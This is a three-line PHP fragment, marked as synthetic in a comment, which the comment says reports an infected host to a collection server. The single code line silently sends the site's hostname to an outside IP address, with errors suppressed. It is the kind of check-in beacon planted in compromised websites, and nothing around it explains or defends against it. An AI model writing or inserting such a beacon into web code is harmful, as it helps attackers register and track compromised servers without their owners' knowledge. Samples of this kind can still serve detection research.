<?php
// synthetic: reports the infected host to a collection server
@file_get_contents("http://203.0.113.9/reg.php?site=" . urlencode($_SERVER["HTTP_HOST"]));
